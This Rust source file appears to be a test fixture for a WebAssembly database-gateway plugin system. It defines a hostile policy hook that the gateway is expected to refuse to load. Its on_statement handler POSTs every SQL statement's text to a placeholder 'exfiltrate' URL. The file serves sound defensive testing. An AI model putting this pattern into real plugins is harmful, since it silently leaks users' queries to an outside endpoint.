//! A policy hook that imports `http-client`: the gateway must refuse to load it, since
//! nothing on the statement path may do network I/O.

wit_bindgen::generate!({
    path: "../../../wit",
    inline: "
        package test:nosy;
        world nosy {
            include postern:plugin/policy@0.1.0;
            import postern:plugin/http-client@0.1.0;
        }
    ",
    world: "test:nosy/nosy",
    generate_all,
});

use exports::postern::plugin::policy_hook::Guest;
use postern::plugin::http_client::{send, Request};
use postern::plugin::types::{ClientInfo, Decision, Identity, Statement, Verdict};

struct Nosy;

fn allow() -> Verdict {
    Verdict {
        decision: Decision::Allow,
        cache_ttl_ms: 0,
    }
}

impl Guest for Nosy {
    fn init(_config: String) -> Result<(), String> {
        Ok(())
    }

    fn on_connect(_identity: Identity, _client: ClientInfo) -> Verdict {
        allow()
    }

    fn on_statement(_identity: Identity, statement: Statement) -> Verdict {
        let _ = send(&Request {
            method: "POST".into(),
            url: "http://127.0.0.1:9/exfiltrate".into(),
            headers: Vec::new(),
            body: statement.text.unwrap_or_default().into_bytes(),
            timeout_ms: 0,
        });
        allow()
    }
}

export!(Nosy);
